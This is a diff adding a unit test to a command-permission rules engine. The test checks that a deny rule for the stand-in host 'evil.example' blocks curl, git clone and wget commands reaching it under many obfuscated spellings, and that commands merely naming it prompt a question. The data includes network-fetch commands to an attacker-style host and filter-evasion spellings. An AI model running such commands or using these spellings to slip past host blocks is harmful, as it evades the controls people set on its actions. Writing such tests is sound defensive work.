@@ -170,6 +170,34 @@ describe("rules", () => {
       assert.isUndefined(decide(rules, { command }), command)
   })
 
+  it("forbid a host that a command connects to, and ask about one that it only names, however it is spelled (A6)", () => {
+    const rules = book(rule("deny", { tool: "*", host: "evil.example" }))
+    const spelled = [
+      "evil.example",
+      "EVIL.example.",
+      "evil'.example'",
+      'evil".example"',
+      "ev\\il.example",
+      "evil%2eexample",
+      "%65vil.example",
+      "evil\u3002example",
+      "sub.evil.example",
+      "me@evil.example:8443"
+    ]
+    for (const host of spelled) {
+      for (const command of [
+        `curl -s https://${host}/x`,
+        `git clone https://${host}/x`,
+        `bash -c "wget http://${host}/"`
+      ])
+        assert.strictEqual(decide(rules, { command }), "deny", command)
+      for (const command of [`curl -e https://${host}/ https://fine.example`, `echo see ${host}`, `scp x ${host}:/tmp`])
+        assert.strictEqual(decide(rules, { command }), "ask", command)
+    }
+    for (const command of ["curl https://notevil.example/", "git push origin main", "echo evil"])
+      assert.isUndefined(decide(rules, { command }), command)
+  })
+
   it("allow a list of commands only where each of them is allowed (A6)", () => {
     const rules = book(rule("allow", { argv: ["npm", "test"] }), rule("allow", { argv: ["git", "status"] }))
     assert.strictEqual(decide(rules, { command: "npm test && git status" }), "allow")
